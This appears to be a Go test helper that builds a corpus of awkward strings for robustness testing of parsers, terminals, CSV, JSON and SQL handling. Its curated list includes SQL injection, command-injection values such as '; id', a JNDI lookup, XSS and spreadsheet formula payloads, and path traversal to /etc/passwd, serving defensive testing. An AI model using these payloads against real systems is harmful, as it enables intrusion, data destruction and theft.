package hostile

import (
	"slices"
	"strings"
)

// corpus returns texts that some program somewhere has fallen over.
func corpus() []string {
	all := slices.Clone(curated)
	for c := range 32 { // what terminals, CSV and XML cannot bear
		all = append(all, "a"+string(rune(c))+"b")
	}
	for _, c := range []rune{
		0x7f, 0x80, 0x85, 0x9b, 0xa0, 0xad, 0x034f, 0x061c, 0x070f, 0x115f, 0x1160, 0x1680, 0x17b4, 0x180e, 0x2000, 0x200b, 0x200c, 0x200d, 0x200e,
		0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x202f, 0x2060, 0x2061, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a,
		0x2800, 0x3000, 0x3164, 0xd7ff, 0xe000, 0xf8ff, 0xfdd0, 0xfe0f, 0xfeff, 0xff1d, 0xffa0, 0xfff9, 0xfffb, 0xfffc, 0xfffd, 0xfffe, 0xffff,
		0x10000, 0x1d173, 0x1f600, 0x1fffe, 0x1ffff, 0xe0001, 0xe0041, 0xe007f, 0xe0100, 0xf0000, 0x10fffd, 0x10ffff,
	} {
		all = append(all, "a"+string(c)+"b", string(c))
	}
	for _, size := range []int{63, 64, 65, 127, 128, 129, 254, 255, 256, 319, 320, 321, 511, 512, 513, 4095, 4096, 4097, 32_767, 32_768, 70_000, 300_000} {
		all = append(all, strings.Repeat("x", size), strings.Repeat("é", size/2), "x"+strings.Repeat("😀", size/4))
	}
	return all
}

var curated = []string{
	"", " ", "\t", "\n", "\r\n", "  leading", "trailing  ", " \u00a0 ", "a\r\nb", "a\tb",
	// What looks like something else.
	"0", "-0", "-1", "01", "1.0", "1e999", "1E2", "0x10", "NaN", "Infinity", "-Infinity", "∞", "٣", "１２", "9223372036854775808", "18446744073709551616",
	strings.Repeat("9", 254), "true", "false", "null", "NULL", "nil", "None", "undefined", "[object Object]", "(any)", "absent", "redacted", "<nil>", "%!s(MISSING)",
	"2026-11-22", "2026-11-22T22:41:07Z", "1-2", "MAR1", "SEPT2", "00:00", "$1", "$audit", `{"$audit":"redacted"}`, `{"$audit":"cut","bytes":9}`, `{"$audit":{}}`, "{}", "[]", `""`,
	// JSON, SQL and what is around them.
	`"`, `'`, "`", `\`, `\\`, `\"`, `\u0000`, `\ud800`, `\udc00\ud800`, `\x00`, `{"a":1`, `]}`, `{"a":1,"a":2}`, `'; DROP TABLE audit_entries; --`, `' OR '1'='1`, `") OR 1=1 --`,
	`1; DELETE FROM audit_entries`, `/*`, `*/`, `--`, `$$`, `$1`, `$2::text`, `?`, `??`, `:name`, `@p1`, `{a,b}`, `{"a,b"}`, `{}`, `{NULL}`, `%`, `_`, `a%b`, `a_b`, `[a-z]`, `E'\x00'`, `U&'\0000'`,
	`\copy x from 'y'`, `x'00'`, `COLLATE "C"`, `::regclass`, `pg_sleep(10)`, `\.`, `(1,2)`, `ROW(1)`,
	// Formats and templates.
	"%s%s%s%n", "%x", "%!d(string=x)", "%[1]*.[2]*[3]f", "{{.}}", "{{printf \"%s\" .}}", "${7*7}", "#{7*7}", "<%= 7 %>", "$(id)", "`id`", "| id", "; id", "&& id", "${jndi:ldap://x/a}", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07",
	// Formulas.
	"=1+1", "+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"http://evil.test\",\"x\")", "=cmd|' /C calc'!A0", "\t=1", "\u200b=1", "＝1+1", "_x000D_", "_x005F_x000D_", "\ufeff=1", "DDE(\"x\")",
	// Markup.
	"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</td></tr></table>", "<!--", "-->", "<![CDATA[", "]]>", "&lt;", "&#0;", "&#x0;", "<?xml?>", "<!DOCTYPE x [<!ENTITY a \"b\">]>", "javascript:alert(1)", "data:text/html,x",
	// Paths and addresses.
	"..", ".", "../../etc/passwd", "..\\..\\x", "/", "//", "a/b", "a//b", "%2e%2e%2f", "%00", "%zz", "CON", "nul.txt", "a?b=c&d", "a#b", "a;b", "~", "~~", "~..", "http://evil.test/", "//evil.test", "file:///etc/passwd", "a.json", ".json",
	// Letters.
	"İıſß", "ﬀ", "é", "e\u0301", "\u0301", "Z̷̢̛͓̲̺̲̽͌͊a̴̙͊l̸̨̾g̶̠͝o̵͚͋", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪", "👋🏽", "العربية", "עברית", "हिन्दी", "ไทย", "한글", "中文", "𝔘𝔫𝔦", "Ａｂｃ", "ǅ", "K", "ẞ", "a\u202egnp.exe", "\u2066x\u2069", strings.Repeat("a\u0301\u0302", 40),
	// What is not UTF-8.
	"\xff", "\xfe\xff", "a\x80b", "\xc0\x80", "\xc0\xaf", "\xe0\x80\xaf", "\xed\xa0\x80", "\xed\xb0\x80", "\xf4\x90\x80\x80", "\xf8\x88\x80\x80\x80", "\xe2\x82", "x\xf0\x9f\x98", "\xc3\x28", "\xa0\xa1",
}
